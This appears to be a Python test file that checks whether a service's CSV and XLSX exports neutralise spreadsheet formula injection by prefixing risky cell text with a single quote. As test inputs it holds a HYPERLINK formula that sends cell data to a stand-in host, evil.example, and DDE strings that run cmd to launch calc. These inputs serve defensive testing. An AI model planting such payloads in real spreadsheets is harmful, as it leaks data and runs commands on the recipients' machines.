"""The CET's exports are data, never formulas: a name that would start a formula is written as text
with a single quote before it, in CSV and XLSX alike, and numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from ifr_service.tables import Table, as_csv, as_xlsx
from tests.cet.test_import import GOOD, csv_lines, load

LINK = '=HYPERLINK("https://evil.example/?x="&A1,"Cohort report")'
STARTS = [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"]


def xlsx_cells(content: bytes) -> list[list]:
    sheet = load_workbook(io.BytesIO(content)).active
    return [list(row) for row in sheet.iter_rows()]


@pytest.mark.parametrize("text", STARTS)
def test_text_that_would_start_a_formula_is_written_with_a_quote_before_it(text):
    table = Table("Trends", ["intervention", "cases"], [{"intervention": text, "cases": 3}])

    [_, row] = list(csv.reader(io.StringIO(as_csv(table))))
    assert row == ["'" + text, "3"]
    [_, cells] = xlsx_cells(as_xlsx(table))
    assert cells[0].data_type == "s"
    assert cells[0].value == "'" + text.replace("\r", "\n")  # XML reads a carriage return as a line end
    assert cells[1].data_type == "n" and cells[1].value == 3


def test_negative_numbers_stay_numbers_and_plain_text_is_unchanged():
    table = Table("Trends", ["hub", "change", "rate"],
                  [{"hub": "south-west", "change": -12, "rate": -0.25},
                   {"hub": "a = b", "change": 0, "rate": None}])

    assert list(csv.reader(io.StringIO(as_csv(table))))[1:] == [
        ["south-west", "-12", "-0.25"], ["a = b", "0", ""]]
    [_, first, second] = xlsx_cells(as_xlsx(table))
    assert [(cell.data_type, cell.value) for cell in first] == [("s", "south-west"), ("n", -12), ("n", -0.25)]
    assert [cell.value for cell in second] == ["a = b", 0, None]


def test_text_that_looks_like_a_number_or_date_is_still_text_in_xlsx():
    cells = xlsx_cells(as_xlsx(Table("Trends", ["month"], [{"month": "2026-03"}])))[1]
    assert (cells[0].data_type, cells[0].value) == ("s", "2026-03")


def test_a_control_character_xml_cannot_hold_is_dropped_not_a_failure():
    [_, cells] = xlsx_cells(as_xlsx(Table("Trends", ["intervention"], [{"intervention": "Drug\x01name"}])))
    assert cells[0].value == "Drugname"


def test_an_imported_intervention_named_as_a_formula_is_exported_as_text(app, client, auth, calendar):
    calendar.set(date(2024, 12, 31))
    cohort = [{**GOOD, "case_ref": f"K{i}", "commissioner": commissioner, "intervention_name": LINK,
               "intervention_code": "=1+2"}
              for i, commissioner in enumerate(["NHS Camden CCG"] * 3 + ["NHS Leeds West CCG"] * 2)]
    load(app, csv_lines(*cohort))
    cet = auth("demo-cet")

    cohorts = client.get("/api/v1/cet/cohorts?as_of=2024-12-31&format=csv", headers=cet)
    [row] = list(csv.DictReader(io.StringIO(cohorts.get_data(as_text=True))))
    assert (row["intervention_name"], row["intervention_key"]) == ("'" + LINK, "'=1+2")
    workbook = client.get("/api/v1/cet/cohorts?as_of=2024-12-31&format=xlsx", headers=cet)
    header, cells = xlsx_cells(workbook.data)
    named = dict(zip([cell.value for cell in header], cells, strict=True))
    assert named["intervention_name"].data_type == "s" and named["intervention_name"].value == "'" + LINK

    trends = client.get("/api/v1/cet/trends?from=2024-01-01&to=2024-12-31&by=intervention&format=xlsx",
                        headers=cet)
    [_, cells] = xlsx_cells(trends.data)
    assert (cells[0].data_type, cells[0].value, cells[1].value) == ("s", "'=1+2", 5)
    assert not any(cell.data_type == "f" for row in xlsx_cells(trends.data) for cell in row)


def test_a_rejected_row_whose_reference_would_start_a_formula_is_written_as_text(app):
    _, rejected = load(app, csv_lines({**GOOD, "case_ref": "=cmd|' /C calc'!A0", "nhs_number": "1"}))
    assert rejected[0]["case_ref"] == "'=cmd|' /C calc'!A0"
